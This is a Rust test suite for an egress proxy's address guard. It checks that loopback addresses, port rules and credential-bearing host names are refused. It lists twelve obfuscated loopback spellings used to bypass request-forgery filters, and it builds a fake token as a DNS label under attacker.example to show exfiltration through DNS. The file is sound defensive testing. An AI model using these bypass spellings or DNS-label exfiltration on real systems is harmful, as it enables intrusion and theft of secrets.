//! Issue 13, the egress address guard and the port rules, through the real binary: no
//! spelling of a loopback address (nor a name resolved to one) reaches a local service
//! unless `egress.allow` names it; intercepted, tunnelled and plain requests are judged
//! alike; `host:8443` is not covered by a rule for `host`. Each test counts what the local
//! service or the origin received, not only the status.

mod support;

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use support::client::{self, read_answer, Proto};
use support::{
    assert_connect_refused, assert_refusal, assert_refused_response, Origin, OriginOptions,
    Protocols, Setup, SetupOptions, Wirepass,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// What the local service says first on every connection it accepts.
const GREETING: &[u8] = b"local service\n";

/// A service on this machine's loopback that counts the connections it accepts: what an
/// agent must not reach through the proxy (a database, a metadata endpoint, an admin port).
struct Local {
    addr: SocketAddr,
    accepted: Arc<AtomicUsize>,
}

impl Local {
    async fn start() -> Local {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let accepted = Arc::new(AtomicUsize::new(0));
        let count = accepted.clone();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                count.fetch_add(1, Ordering::SeqCst);
                tokio::spawn(async move {
                    let _ = stream.write_all(GREETING).await;
                    let mut sink = [0u8; 1024];
                    while matches!(stream.read(&mut sink).await, Ok(n) if n > 0) {}
                });
            }
        });
        Local { addr, accepted }
    }

    fn port(&self) -> u16 {
        self.addr.port()
    }

    fn accepted(&self) -> usize {
        self.accepted.load(Ordering::SeqCst)
    }
}

/// Every spelling of this machine's loopback an agent might try: the inet_aton forms, an
/// IPv4-mapped and an IPv4-compatible IPv6 literal, IPv6 loopback, and names.
const LOOPBACK_SPELLINGS: [&str; 12] = [
    "127.0.0.1",
    "127.1",
    "127.0.1",
    "2130706433",
    "0x7f.1",
    "0X7F.0.0.1",
    "0177.0.0.1",
    "[::ffff:127.0.0.1]",
    "[::127.0.0.1]",
    "[::1]",
    "localhost",
    "LocalHost.",
];

/// A proxy whose config is `yaml` (the origin only lends its CA as the upstream root).
async fn proxy(yaml: &str) -> (Wirepass, Origin, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let origin = Origin::start(OriginOptions {
        dns_names: vec!["example.test".into()],
        protocols: Protocols::Both,
        git_root: None,
        ca_dir: dir.path().to_path_buf(),
        apis: None,
    })
    .await
    .unwrap();
    let proxy = Wirepass::spawn(yaml, origin.ca_pem_path(), &[]).await;
    (proxy, origin, dir)
}

/// Sends one absolute-form request for `url` as written (no client normalises the host)
/// and returns the proxy's answer.
async fn plain_get(proxy: SocketAddr, url: &str, host: &str) -> (u16, String, String) {
    let mut s = TcpStream::connect(proxy).await.unwrap();
    let head = format!("GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    s.write_all(head.as_bytes()).await.unwrap();
    read_answer(&mut s).await
}

/// Opens a tunnel to `target` and reads the local service's greeting through it (it counts
/// the connection before it greets).
async fn greeted(proxy: SocketAddr, target: &str) {
    let mut tunnel = client::connect(proxy, target).await.unwrap_or_else(|r| {
        let body = String::from_utf8_lossy(&r.body);
        panic!("CONNECT {target}: {} {body}", r.status)
    });
    let mut greeting = vec![0u8; GREETING.len()];
    tunnel.read_exact(&mut greeting).await.unwrap();
    assert_eq!(greeting, GREETING, "{target}");
}

/// The headers of a head read by [`read_answer`] (lowercase), as name/value pairs.
fn head_pairs(head: &str) -> Vec<(String, String)> {
    head.lines()
        .filter_map(|l| l.split_once(':'))
        .map(|(n, v)| (n.trim().to_string(), v.trim().to_string()))
        .collect()
}

/// Issue 13: with `hosts.default: tunnel`, every spelling of a loopback address was
/// tunnelled to whatever listened there. Here the network sends each spelling's port 443
/// to a local service (as `egress.resolve` may, and as a service on port 443 of this
/// machine would be reached); the guard judges the address the dialer would dial.
#[tokio::test]
async fn issue_13_no_spelling_of_loopback_is_tunnelled() {
    let local = Local::start().await;
    let mut yaml = String::from("version: 1\nhosts: {default: tunnel}\negress:\n  resolve:\n");
    for name in LOOPBACK_SPELLINGS.iter().chain(&["sneaky.example"]) {
        yaml.push_str(&format!("    \"{name}:443\": \"{}\"\n", local.addr));
    }
    let (proxy, _origin, _dir) = proxy(&yaml).await;
    for name in LOOPBACK_SPELLINGS.iter().chain(&["sneaky.example"]) {
        assert_connect_refused(
            proxy.addr(),
            &format!("{name}:443"),
            (403, "private_address"),
        )
        .await;
    }
    assert_eq!(local.accepted(), 0, "the local service was reached");

    // The refusal names the class and the key that would allow it.
    let refused = client::connect(proxy.addr(), "sneaky.example:443")
        .await
        .unwrap_err();
    let body = String::from_utf8_lossy(&refused.body);
    for want in ["sneaky.example", "127.0.0.1", "loopback", "egress.allow"] {
        assert!(body.contains(want), "{want} not in {body}");
    }
}

/// The same spellings dialled as they are (no `egress.resolve`), by CONNECT and by plain
/// HTTP, on the local service's own port (which `egress.ports` opens for the default).
#[tokio::test]
async fn issue_13_loopback_literals_are_never_dialled() {
    let local = Local::start().await;
    let port = local.port();
    let yaml = format!(
        "version: 1\nhosts: {{default: tunnel}}\negress:\n  ports: {{connect: [443, {port}], http: [80, {port}]}}\n"
    );
    let (proxy, _origin, _dir) = proxy(&yaml).await;
    for name in LOOPBACK_SPELLINGS {
        let target = format!("{name}:{port}");
        assert_connect_refused(proxy.addr(), &target, (403, "private_address")).await;
        let (status, head, body) =
            plain_get(proxy.addr(), &format!("http://{target}/"), &target).await;
        assert_refusal(status, &head_pairs(&head), &body, (403, "private_address"));
    }
    assert_eq!(local.accepted(), 0, "the local service was reached");
}

/// Loopback is reached only when `egress.allow` names it: by CIDR (every spelling of an
/// address inside it), or by name (that name's addresses, and no other spelling).
#[tokio::test]
async fn issue_13_loopback_is_reached_only_when_egress_allow_names_it() {
    let local = Local::start().await;
    let port = local.port();
    let base = format!(
        "version: 1\nhosts: {{default: tunnel}}\negress:\n  ports: {{connect: [443, {port}]}}\n"
    );

    let (by_cidr, _o1, _d1) = proxy(&format!("{base}  allow: [\"127.0.0.0/8\"]\n")).await;
    for name in ["127.1", "0x7f.1", "[::ffff:127.0.0.1]"] {
        let before = local.accepted();
        greeted(by_cidr.addr(), &format!("{name}:{port}")).await;
        assert_eq!(local.accepted(), before + 1, "{name}");
    }
    // Without an allow entry the same proxy configuration refuses it.
    let (none, _o2, _d2) = proxy(&base).await;
    let before = local.accepted();
    assert_connect_refused(
        none.addr(),
        &format!("127.1:{port}"),
        (403, "private_address"),
    )
    .await;

    let (by_name, _o3, _d3) = proxy(&format!("{base}  allow: [localhost]\n")).await;
    greeted(by_name.addr(), &format!("localhost:{port}")).await;
    assert_eq!(local.accepted(), before + 1);
    // The name allows its own addresses, not another spelling of them.
    assert_connect_refused(
        by_name.addr(),
        &format!("127.1:{port}"),
        (403, "private_address"),
    )
    .await;
    assert_eq!(local.accepted(), before + 1);
}

/// Issue 13: an intercepted host that resolves to loopback was dialled. Its CONNECT is
/// answered (the dial waits for the first request); each request is refused
/// `private_address` and the origin receives nothing. Plain HTTP likewise.
#[tokio::test]
async fn issue_13_an_intercepted_host_resolved_to_loopback_is_refused() {
    let setup = Setup::start(SetupOptions {
        allow: Vec::new(),
        ..SetupOptions::default()
    })
    .await;
    for proto in [Proto::H1, Proto::H2] {
        let mut c = setup.client("example.test", proto).await;
        let resp = c.get("/small").await;
        assert_refused_response(resp, (403, "private_address")).await;
    }
    let (status, head, body) = plain_get(
        setup.proxy.addr(),
        "http://example.test/small",
        "example.test",
    )
    .await;
    assert_refusal(status, &head_pairs(&head), &body, (403, "private_address"));
    assert!(
        body.contains("`example.test`") && body.contains("egress.allow"),
        "{body}"
    );
    assert!(
        setup.origin.requests().is_empty(),
        "{:?}",
        setup.origin.requests()
    );

    // Allowed by name, the same host is reached.
    let allowed = Setup::start(SetupOptions {
        allow: vec!["example.test".into()],
        ..SetupOptions::default()
    })
    .await;
    let mut c = allowed.client("example.test", Proto::H1).await;
    let resp = c.get("/small").await;
    assert_eq!(resp.status(), 200);
    let got = allowed.origin.requests();
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].path_and_query, "/small");
}

/// Issue 13: `example.test:8443` was treated as `example.test`. A rule without a port
/// covers 443 only; a rule naming the port admits it, and the origin sees that port.
#[tokio::test]
async fn issue_13_a_host_rule_covers_its_own_port_only() {
    let bare = Setup::start(SetupOptions {
        resolve: vec![("example.test:8443".into(), "127.0.0.1:1".into())],
        ..SetupOptions::default()
    })
    .await;
    let refused = client::connect(bare.proxy.addr(), "example.test:8443")
        .await
        .unwrap_err();
    let body = String::from_utf8_lossy(&refused.body);
    assert_refusal(
        refused.status,
        &refused.headers,
        &body,
        (403, "unknown_host"),
    );
    assert!(
        body.contains("example.test:8443") && body.contains("hosts.intercept"),
        "{body}"
    );
    // A route table's host on another port is not the service's: refused, never tunnelled.
    assert_connect_refused(
        bare.proxy.addr(),
        "api.github.com:8443",
        (403, "unknown_host"),
    )
    .await;
    assert!(bare.origin.requests().is_empty());

    let named = Setup::start(SetupOptions {
        intercept: vec!["example.test:8443".into()],
        ..SetupOptions::default()
    })
    .await;
    let out = named
        .curl(
            &["-o", "/dev/null", "-w", "%{http_code}"],
            "https://example.test:8443/small",
        )
        .await;
    assert!(out.stdout.ends_with("200"), "{out:#?}");
    let got = named.origin.requests();
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].authority.as_deref(), Some("example.test:8443"));
    // ... and only that port: 443 is no longer covered.
    assert_connect_refused(
        named.proxy.addr(),
        "example.test:443",
        (403, "unknown_host"),
    )
    .await;
}

/// A credential in the target's host name leaves through DNS before a byte of the
/// request does (`ghp_….attacker.example` asks the attacker's name server). With
/// `hosts.default: tunnel` and names resolved to a local service, a benign name is
/// tunnelled, and the same name with a token label is refused `credential_leak` on
/// CONNECT and as a plain `http://` request, is never resolved or dialled, and neither
/// the refusal nor the log holds the token.
#[tokio::test]
async fn a_credential_in_a_host_name_is_refused_before_it_is_resolved() {
    let local = Local::start().await;
    let port = local.port();
    let token = wirepass::scan::fake::expand(
        "ghp_{a30}{crc}",
        wirepass::scan::fake::Mode::Real,
        &mut wirepass::scan::fake::Rng::new("e2e_egress", 1),
    );
    let sneaky = format!("{token}.attacker.example");
    let yaml = format!(
        "version: 1\nhosts: {{default: tunnel}}\negress:\n  ports: {{connect: [443, {port}], http: [80, {port}]}}\n  allow: [\"127.0.0.0/8\"]\n  resolve:\n    \"benign.example:{port}\": \"{addr}\"\n    \"{sneaky}:{port}\": \"{addr}\"\n",
        addr = local.addr
    );
    let (proxy, _origin, _dir) = proxy(&yaml).await;
    greeted(proxy.addr(), &format!("benign.example:{port}")).await;
    let before = local.accepted();
    assert_eq!(before, 1, "the benign name was tunnelled");

    let target = format!("{sneaky}:{port}");
    let refused = client::connect(proxy.addr(), &target).await.unwrap_err();
    let body = String::from_utf8_lossy(&refused.body).into_owned();
    assert_refusal(
        refused.status,
        &refused.headers,
        &body,
        (403, "credential_leak"),
    );
    assert!(body.contains("github-pat"), "{body}");
    support::assert_no_secret("the CONNECT refusal", &body);
    let (status, head, body) = plain_get(proxy.addr(), &format!("http://{target}/"), &target).await;
    assert_refusal(status, &head_pairs(&head), &body, (403, "credential_leak"));
    support::assert_no_secret("the plain refusal", &body);
    assert_eq!(
        local.accepted(),
        before,
        "the name with a token was dialled"
    );
    proxy.log_line(|l| l.contains("credential_leak")).await;
    support::assert_no_secret("the log", &proxy.stderr());
}
